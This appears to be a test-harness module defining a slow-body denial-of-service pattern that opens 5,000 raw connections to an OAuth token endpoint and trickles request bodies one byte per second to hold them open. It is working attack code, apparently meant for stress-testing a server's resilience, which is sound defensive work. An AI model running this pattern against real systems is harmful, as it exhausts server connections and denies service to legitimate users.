import { setTimeout as pause } from 'node:timers/promises'
import { createTally, openRaw } from '../attackers.ts'
import type { Pattern } from '../pattern.ts'

export const pattern: Pattern = {
  what: '5,000 sign-ins whose bodies come a byte a second',
  seconds: 40,
  attack: async (target) => {
    const tally = createTally()
    const head = [
      'POST /auth/oauth2/token?grant_type=password HTTP/1.1',
      'host: school',
      `authorization: Basic ${btoa('demo:demo')}`,
      'content-type: application/json',
      'content-length: 10000',
    ]
    const sockets = Array.from({ length: 5_000 }, () => {
      const socket = openRaw(target)
      socket.write(`${head.join('\r\n')}\r\n\r\n{`)
      socket.on('data', (data) => tally.add(String(data).slice(9, 12)))
      socket.once('close', () => tally.add('closed'))
      return socket
    })
    while (Date.now() < target.endsAt - 1_000) {
      for (const socket of sockets) if (socket.writable) socket.write(' ')
      await pause(1_000)
    }
    for (const socket of sockets) socket.destroy()
    return tally.toString()
  },
}
